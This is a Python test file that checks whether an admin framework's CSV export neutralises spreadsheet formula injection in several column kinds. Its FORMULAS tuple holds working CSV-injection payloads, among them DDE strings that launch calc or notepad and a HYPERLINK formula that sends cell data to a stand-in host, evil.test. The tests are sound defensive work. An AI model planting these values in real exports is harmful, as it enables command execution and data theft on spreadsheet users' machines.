"""Exported cells that a spreadsheet would run as formulas are neutralised.

Values starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (and their
full-width forms, which some spreadsheet locales read as the ASCII ones) are stored in a
string column, a text column, a many-to-one label (the customer's name) and a many-to-many
label (tag names), and through an export formatter; every exported cell must start with
something harmless.  Plain negative numbers stay numbers.  The export is an attachment of
type text/csv, never something a browser would render.
"""

from __future__ import annotations

import csv
import io

import pytest

from fasthx_core.cells import export_safe

from ..core.models import Customer, Device, Tag
from .apps import NATIVE_VIEWS, DeviceView, login

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=cmd|' /C notepad'!'A1'", "-", "+", "=", "@", "＝1+1", "＋1", "－1+1", "＠SUM(A1)",
    "-1e3+1", "+-1",
)
NUMBERS = ("-1", "-2.5", "-0", "+3")
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def db_url(sqlite_url: str) -> str:
    return sqlite_url


def risky(cell: str) -> bool:
    if not cell.startswith(DANGEROUS_START):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


class ExportDeviceView(DeviceView):
    column_export_list = ["hostname", "description", "customer", "tags", "load"]
    column_formatters_export = {"load": lambda value, obj: obj.hostname}


def test_formula_cells_are_neutralised_in_every_column_kind(native_app):
    client = native_app(*(v for v in NATIVE_VIEWS if v is not DeviceView), ExportDeviceView)
    login(client, "alice")
    with client.db() as db:
        for i, value in enumerate(FORMULAS + NUMBERS):
            customer = Customer(name=f"{value}", email=value)
            db.add(Device(hostname=value, description=value, customer=customer,
                          tags=[Tag(name=f"{value}#{i}")]))
        db.commit()
    response = client.get("/devices/export/csv?page_size=500")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) - 1 == len(FORMULAS) + len(NUMBERS) + 2
    assert not [c for c in cells if risky(c)], [c for c in cells if risky(c)]
    for value in FORMULAS:
        assert "'" + value in cells  # kept, behind a quote
    for number in NUMBERS:
        assert number in cells  # data, unchanged
    print(f"\n{len(FORMULAS)} formula payloads x {len(rows[0])} columns exported safely")


@pytest.mark.parametrize("value", FORMULAS)
def test_export_safe_quotes_every_formula(value):
    assert export_safe(value) == "'" + value


def test_legacy_shop_export_is_neutralised(shop_app):
    from examples.legacy_shop.models import Customer as ShopCustomer

    client = shop_app()
    session = client.app.state.flask_admin_compat._views[0].session
    for i, value in enumerate(FORMULAS):
        session.add(ShopCustomer(name=value, email=f"{value}{i}@x.test", country="DE"))
    session.commit()
    session.remove()
    response = client.get("/admin/customer/export/csv/")
    assert response.status_code == 200
    cells = [c for row in list(csv.reader(io.StringIO(response.text)))[1:] for c in row]
    assert not [c for c in cells if risky(c)]
    assert "'=1+1" in cells
